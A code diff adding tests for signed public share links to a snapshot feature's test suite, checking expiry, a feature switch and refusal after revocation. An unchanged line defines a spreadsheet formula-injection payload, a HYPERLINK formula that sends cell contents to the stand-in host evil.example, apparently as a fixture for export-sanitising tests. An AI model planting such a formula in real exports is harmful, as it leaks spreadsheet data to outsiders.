@@ -13,6 +13,8 @@ import { liveReportReader } from './live';
 import { parseSnapshotRequest } from './request';
 import { openSnapshot, revokeSnapshot, snapshotSummary, takeSnapshot } from './snapshots';
 import { compareWithLive, describeComparison } from './compare';
+import { createPublicLink } from './public-link-service';
+import { checkPublicLink } from './public-links';
 
 const INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
 const POLICY: TierPolicy = {
@@ -215,5 +217,27 @@ describe('compare with live', () => {
     expect(describeComparison(comparison)).toMatch(
       /^Since then: [\d,]+ more executions?, cost [+−]\d+(\.\d)?%\.$/,
     );
+  });
+});
+
+describe('public links', () => {
+  const ON = { TIERWISE_PUBLIC_LINKS: 'on', TIERWISE_SHARE_SECRET: 's'.repeat(40) } as const;
+
+  it('are signed for an open snapshot, end with it at the latest, and are refused once it is revoked', async () => {
+    world.advanceTo(clock.now());
+    const taken = await share({ expiresInDays: 2 });
+    const link = await createPublicLink(ON, store, requester, taken.id, 30);
+    expect(link.expiresAtMs).toBe(clock.now() + 2 * DAY_MS);
+    const url = new URL(link.url, 'http://tierwise.test');
+    expect(checkPublicLink(ON, taken.id, url.searchParams, clock.now())).toMatchObject({
+      kind: 'valid',
+    });
+    await expect(
+      createPublicLink({ ...ON, TIERWISE_PUBLIC_LINKS: 'off' }, store, requester, taken.id, 7),
+    ).rejects.toThrow(/turned off/);
+    await revokeSnapshot(store, requester, taken.id);
+    await expect(createPublicLink(ON, store, requester, taken.id, 7)).rejects.toMatchObject({
+      status: 410,
+    });
   });
 });
